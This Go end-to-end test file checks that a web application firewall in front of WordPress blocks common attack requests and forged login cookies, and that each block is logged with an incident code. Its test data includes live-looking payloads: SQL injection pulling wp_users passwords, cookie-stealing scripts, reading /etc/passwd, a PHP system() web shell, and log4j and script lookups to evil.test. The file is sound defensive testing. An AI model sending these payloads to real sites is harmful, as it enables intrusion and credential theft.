package e2e

import (
	"html"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/qorgan/qorgan/e2e/wordpress"
)

// attacks are what robots send to any site, all day.
var attacks = []struct {
	name, method, target, contentType, body string
}{
	{"SQL injection in the query", "GET", "/?id=" + url.QueryEscape("1' UNION SELECT user_login,user_pass FROM wp_users-- -"), "", ""},
	{"SQL injection in a comment", "POST", "/wp-comments-post.php", "application/x-www-form-urlencoded", "comment=" + url.QueryEscape("1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))x)-- -") + "&author=a&email=a@example.test&comment_post_ID=1"},
	{"script in the search", "GET", "/?s=" + url.QueryEscape("<script>alert(document.cookie)</script>"), "", ""},
	{"script in a comment", "POST", "/wp-comments-post.php", "application/x-www-form-urlencoded", "comment=" + url.QueryEscape("<script src=//evil.test/x.js></script>") + "&author=a&email=a@example.test&comment_post_ID=1"},
	{"file inclusion", "GET", "/?page=../../../../etc/passwd", "", ""},
	{"the configuration file", "GET", "/wp-config.php.bak", "", ""},
	{"shell command", "GET", "/?x=" + url.QueryEscape(";cat /etc/passwd"), "", ""},
	{"PHP code", "POST", "/", "application/x-www-form-urlencoded", "x=" + url.QueryEscape("<?php system($_GET['c']); ?>")},
	{"log4j", "GET", "/?x=" + url.QueryEscape("${jndi:ldap://evil.test/a}"), "", ""},
	{"a shell in the uploads", "GET", "/wp-content/uploads/2026/11/shell.php?cmd=id", "", ""},
	{"script through REST", "POST", "/wp-json/wp/v2/posts", "application/json", `{"title":"x","content":"<script>alert(1)</script>"}`},
	{"SQL injection through XML-RPC", "POST", "/xmlrpc.php", "text/xml", "<?xml version=\"1.0\"?><methodCall><methodName>wp.getPost</methodName><params><param><value><string>1' UNION SELECT user_pass FROM wp_users-- -</string></value></param></params></methodCall>"},
	{"serialized object", "POST", "/wp-admin/admin-ajax.php", "application/x-www-form-urlencoded", "action=x&data=" + url.QueryEscape(`O:8:"stdClass":1:{s:1:"a";i:1;}`)},
}

// TestAttacks sends what no visitor sends: each is refused with a page that
// shows an incident code, and the incident is found by that code.
func TestAttacks(t *testing.T) {
	e := startEdge(t, blog(t).URL, "--mode", "block", "--profile", "wordpress")
	v := visitor(t, e)
	v.get(t, "/").want(t, 200, "Steppe Notes")
	codes := map[string]string{}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			got := v.send(t, a.method, a.target, a.contentType, []byte(a.body))
			got.want(t, http.StatusForbidden, "")
			code := incidentCode(got.body)
			if code == "" {
				t.Errorf("no incident code in: %.500s", got.body)
			}
			codes[code] = a.name
		})
	}
	e.stop(t) // what is queued is written
	for _, i := range e.events(t) {
		if _, ok := codes[i.Code]; !ok {
			t.Errorf("an incident nobody was shown: %s", i)
		}
		delete(codes, i.Code)
	}
	for code, name := range codes {
		t.Errorf("%s: incident %s is not recorded", name, code)
	}
}

// TestTrustIsWitnessed sends an author's content in every guise but a witnessed
// author's.
func TestTrustIsWitnessed(t *testing.T) {
	site := blog(t)
	e := startEdge(t, site.URL, "--mode", "block", "--profile", "wordpress")
	content := map[string]any{"title": "x", "content": "<!-- wp:html --><script>alert(document.cookie)</script><!-- /wp:html -->", "status": "draft"}
	editor := signIn(t, e, wordpress.Editor)
	editor.get(t, "/wp-admin/post-new.php").want(t, 200, "block-editor")
	editor.rest(t, "POST", "/wp/v2/posts", content).want(t, 201, "")

	home, err := url.Parse(e.URL)
	if err != nil {
		t.Fatal(err)
	}
	cookies := editor.client.Jar.Cookies(home)
	forged := func(change func(*http.Cookie)) *person {
		p := visitor(t, e)
		p.nonce = editor.nonce
		var all []*http.Cookie
		for _, c := range cookies {
			c := &http.Cookie{Name: c.Name, Value: c.Value, Path: "/"}
			change(c)
			all = append(all, c)
		}
		p.client.Jar.SetCookies(home, all)
		return p
	}
	subscriber := signIn(t, e, wordpress.Subscriber)
	for _, tc := range []struct {
		name string
		who  *person
	}{
		{"nobody", visitor(t, e)},
		{"nobody with a nonce", &person{base: e.URL, client: visitor(t, e).client, nonce: editor.nonce}},
		{"a cookie with the right name", forged(func(c *http.Cookie) { c.Value = "editor%7C2000000000%7Cabcdef%7C0123456789" })},
		{"a cookie changed by one letter", forged(func(c *http.Cookie) { c.Value = c.Value[:len(c.Value)-1] + "g" })},
		{"a subscriber", subscriber},
		{"a subscriber with an editor's nonce", &person{base: e.URL, client: subscriber.client, nonce: editor.nonce}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tc.who.rest(t, "POST", "/wp/v2/posts", content).want(t, http.StatusForbidden, "")
			refusedByEdge(t, e, tc.who.rest(t, "POST", "/wp/v2/posts", content))
		})
	}
	t.Run("an editor without a nonce", func(t *testing.T) {
		p := &person{base: e.URL, client: editor.client}
		refusedByEdge(t, e, p.send(t, "POST", "/wp-json/wp/v2/posts", "application/json", []byte(`{"content":"<script>alert(document.cookie)</script>"}`)))
	})
	t.Run("after signing out", func(t *testing.T) {
		page := editor.get(t, "/wp-admin/")
		kept := forged(func(*http.Cookie) {})
		out := page.body[strings.Index(page.body, "wp-login.php?action=logout"):]
		out = html.UnescapeString(out[:strings.IndexAny(out, `"'`)])
		editor.get(t, "/"+out).want(t, http.StatusFound, "")
		refusedByEdge(t, e, kept.rest(t, "POST", "/wp/v2/posts", content))
	})
}

// refusedByEdge tells the edge's refusal from WordPress's own.
func refusedByEdge(t *testing.T, _ *edge, a answer) {
	t.Helper()
	if a.status != http.StatusForbidden || incidentCode(a.body) == "" {
		t.Errorf("%s: %d, not refused by the edge: %.300s", a.what, a.status, a.body)
	}
}

// incidentCode finds a code such as 7KQ2-M9XD in a page or a problem document.
func incidentCode(body string) string {
	words := strings.FieldsFunc(body, func(r rune) bool {
		return !(r == '-' || r >= '0' && r <= '9' || r >= 'A' && r <= 'Z')
	})
	i := slices.IndexFunc(words, func(w string) bool { return len(w) == 9 && w[4] == '-' && strings.Count(w, "-") == 1 })
	if i < 0 {
		return ""
	}
	return words[i]
}
